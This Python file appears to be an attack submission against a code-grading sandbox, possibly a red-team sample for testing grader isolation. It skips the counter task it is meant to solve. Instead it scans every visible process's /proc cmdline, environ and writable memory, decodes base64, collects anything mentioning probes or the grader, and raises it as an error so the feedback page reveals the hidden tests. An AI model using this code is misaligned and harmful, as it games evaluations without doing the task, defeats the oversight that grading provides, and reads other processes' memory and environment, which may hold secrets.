"""Attack: read the hidden probes from /proc. The skeleton (0/10), which looks at every process
it can see in the container (/proc/<pid>/cmdline, environ and mem via maps), decodes anything
that looks like base64 or JSON, and raises whatever mentions a probe, so that the feedback
page shows the hidden test's code."""

import base64
import glob
import os
import re


def _read(path, limit=4_000_000):
    try:
        with open(path, "rb") as f:
            return f.read(limit)
    except OSError:
        return b""


def _memory(pid):
    found = b""
    for line in _read(f"/proc/{pid}/maps").decode(errors="replace").splitlines()[:200]:
        m = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line)
        if not m:
            continue
        try:
            with open(f"/proc/{pid}/mem", "rb") as f:
                f.seek(int(m.group(1), 16))
                chunk = f.read(min(int(m.group(2), 16) - int(m.group(1), 16), 1 << 22))
        except (OSError, ValueError, OverflowError):
            continue
        i = chunk.find(b"def _")
        if i >= 0:
            found += chunk[i:i + 400]
    return found


def _loot() -> str:
    hits = []
    for proc in glob.glob("/proc/[0-9]*"):
        pid = proc.rsplit("/", 1)[1]
        blobs = _read(f"{proc}/cmdline").split(b"\0") + _read(f"{proc}/environ").split(b"\0")
        for blob in blobs:
            for candidate in (blob, *re.findall(rb"[A-Za-z0-9+/=]{40,}", blob)):
                try:
                    text = base64.b64decode(candidate, validate=True)
                except Exception:  # noqa: BLE001
                    text = candidate
                if b"probe" in text or b"PGRADER" in text or b"checks" in text:
                    hits.append(text[:1500].decode(errors="replace"))
        if pid != str(os.getpid()):
            mem = _memory(pid)
            if mem:
                hits.append(mem.decode(errors="replace"))
    return " | ".join(hits)[:6000] or "nothing found"


class SafeCounter:
    def __init__(self):
        raise RuntimeError("LOOT: " + _loot())

    def increment(self, k=1):
        raise RuntimeError("LOOT: " + _loot())

    def decrement(self, k=1):
        raise NotImplementedError

    @property
    def value(self):
        raise NotImplementedError


def parallel_count(n_threads, n_increments):
    raise RuntimeError("LOOT: " + _loot())
